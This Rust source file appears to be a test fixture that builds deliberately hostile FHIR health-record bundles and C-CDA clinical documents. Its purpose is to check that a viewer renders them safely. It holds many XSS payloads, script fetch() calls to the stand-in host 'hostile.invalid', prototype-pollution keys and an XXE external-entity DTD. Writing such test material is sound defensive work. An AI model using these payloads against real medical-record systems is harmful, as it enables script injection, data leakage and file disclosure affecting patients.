//! A record that attacks whoever shows it.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::Persona;
use crate::bundle::{BundleKind, pack, persona_resources};

/// Every remote address in the hostile record is on this host: whatever asks for it has failed.
pub const HOSTILE_HOST: &str = "hostile.invalid";

/// Narratives that try to act, to load or to lead away.
pub const HOSTILE_NARRATIVES: [&str; 16] = [
    "<div><script>fetch('https://hostile.invalid/1')</script>text</div>",
    "<div><img src=\"https://hostile.invalid/2.png\" onerror=\"alert(2)\"/>text</div>",
    "<div onclick=\"alert(3)\" style=\"background:url(https://hostile.invalid/3)\">text</div>",
    "<div><svg onload=\"alert(4)\"><image href=\"https://hostile.invalid/4\"/><script>alert(4)</script></svg>text</div>",
    "<div><a href=\"javascript:alert(5)\">text</a></div>",
    "<div><a href=\"https://hostile.invalid/6\" target=\"_top\">text</a></div>",
    "<div><style>@import url(https://hostile.invalid/7); * { display: none }</style>text</div>",
    "<div><iframe src=\"https://hostile.invalid/8\"></iframe>text</div>",
    "<div><object data=\"https://hostile.invalid/9\"></object><embed src=\"https://hostile.invalid/9\"/>text</div>",
    "<div><meta http-equiv=\"refresh\" content=\"0;url=https://hostile.invalid/10\"/>text</div>",
    "<div><form action=\"https://hostile.invalid/11\"><input name=\"x\" autofocus onfocus=\"alert(11)\"/><button>text</button></form></div>",
    "<div><math><mtext><table><mglyph><style><img src=x onerror=alert(12)></style></mglyph></table></mtext></math>text</div>",
    "<div><noscript><p title=\"</noscript><img src=x onerror=alert(13)>\">text</p></noscript>text</div>",
    "<div><p id=\"root\" class=\"modal\" data-x=\"1\" contenteditable=\"true\">text</p></div>",
    "<div><video src=\"https://hostile.invalid/15\" autoplay poster=\"https://hostile.invalid/15.png\"></video><audio src=\"https://hostile.invalid/15\"></audio>text</div>",
    "<div><link rel=\"stylesheet\" href=\"https://hostile.invalid/16.css\"/><base href=\"https://hostile.invalid/\"/>text</div>",
];

/// Where the hostile records point unless another address is given.
const ADDRESS: &str = "https://hostile.invalid/";

/// The record of the heart persona with hostile narrative, titles, links and documents added.
pub fn hostile_bundle(seed: u64) -> Vec<u8> {
    hostile_bundle_at(seed, ADDRESS)
}

/// As [`hostile_bundle`]; everything in it points at `address`, which ends with `/`.
pub fn hostile_bundle_at(seed: u64, address: &str) -> Vec<u8> {
    let mut resources = persona_resources(Persona::HeartWoman, seed);
    for (n, narrative) in HOSTILE_NARRATIVES.iter().enumerate() {
        resources.push(json!({
            "resourceType": "Condition", "id": format!("hostile-{n}"),
            "text": {"status": "additional", "div": narrative.replace(ADDRESS, address)},
            "code": {"text": format!("Hostile narrative {n}")}, "onsetDateTime": "2026-01-01",
        }));
    }
    resources.extend(others(address));
    pack(BundleKind::Collection, &resources).into_bytes()
}

fn others(address: &str) -> [Value; 3] {
    let page = format!("<html><script>fetch('{address}doc')</script></html>");
    let drawing =
        format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"fetch('{address}svg')\"/>");
    [
        json!({
            "resourceType": "DocumentReference", "id": "hostile-html", "status": "current", "date": "2026-01-01T00:00:00Z",
            "description": "<img src=x onerror=alert(1)>",
            "content": [
                {"attachment": {"contentType": "text/html", "title": "<script>alert(1)</script>", "data": STANDARD.encode(page)}},
                {"attachment": {"contentType": "image/svg+xml", "title": "drawing", "data": STANDARD.encode(drawing)}},
                {"attachment": {"contentType": "application/pdf", "title": "elsewhere", "url": format!("{address}elsewhere.pdf")}},
                {"attachment": {"contentType": "text/html", "title": "link", "url": "javascript:alert(1)"}},
            ],
        }),
        json!({
            "resourceType": "Observation", "id": "hostile-text", "status": "final",
            "code": {"text": "\"><img src=x onerror=alert(1)>"}, "effectiveDateTime": "2026-01-01",
            "valueString": "<b onmouseover=alert(1)>\u{202e}desrever\u{202c}</b>",
        }),
        json!({
            "resourceType": "Basic", "id": "hostile-names", "code": {"text": "names"},
            "extension": [{"url": "javascript:alert(1)", "valueUri": "data:text/html,<script>alert(1)</script>"}],
            "__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}},
        }),
    ]
}

/// A clinical document (C-CDA) of which pictures, links, styles, inclusions and media point at `address`,
/// which ends with `/`; with a definition of its own (`DOCTYPE`) if asked for.
pub fn hostile_document(address: &str, definitions: bool) -> String {
    let doctype = if definitions {
        format!(
            r#"<!DOCTYPE ClinicalDocument SYSTEM "{address}cda.dtd" [<!ENTITY outside SYSTEM "{address}entity">]>"#
        )
    } else {
        String::new()
    };
    let title = if definitions { "&outside;" } else { "Hostile document" };
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<?xml-stylesheet type="text/xsl" href="{address}style.xsl"?>
{doctype}<ClinicalDocument xmlns="urn:hl7-org:v3" xmlns:xi="http://www.w3.org/2001/XInclude"
  xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="urn:hl7-org:v3 {address}CDA.xsd">
<title>{title}</title>
<component><structuredBody><component><section>
<title>Hostile section</title>
<text>
<paragraph styleCode="Bold; background:url({address}style)">Hostile words</paragraph>
<linkHtml href="{address}link">a link</linkHtml>
<img src="{address}picture.png"/><renderMultiMedia referencedObject="media"/>
<style>@import url({address}sheet.css);</style><script src="{address}script.js"/>
<xi:include href="{address}included.xml"/>
<table background="{address}table.png"><tbody><tr><td style="background:url({address}cell.png)">cell</td></tr></tbody></table>
</text>
<entry><observationMedia classCode="OBS" moodCode="EVN" ID="media">
<value mediaType="image/png"><reference value="{address}media.png"/></value></observationMedia></entry>
<xi:include href="{address}section.xml"/>
</section></component></structuredBody></component></ClinicalDocument>"#
    )
}
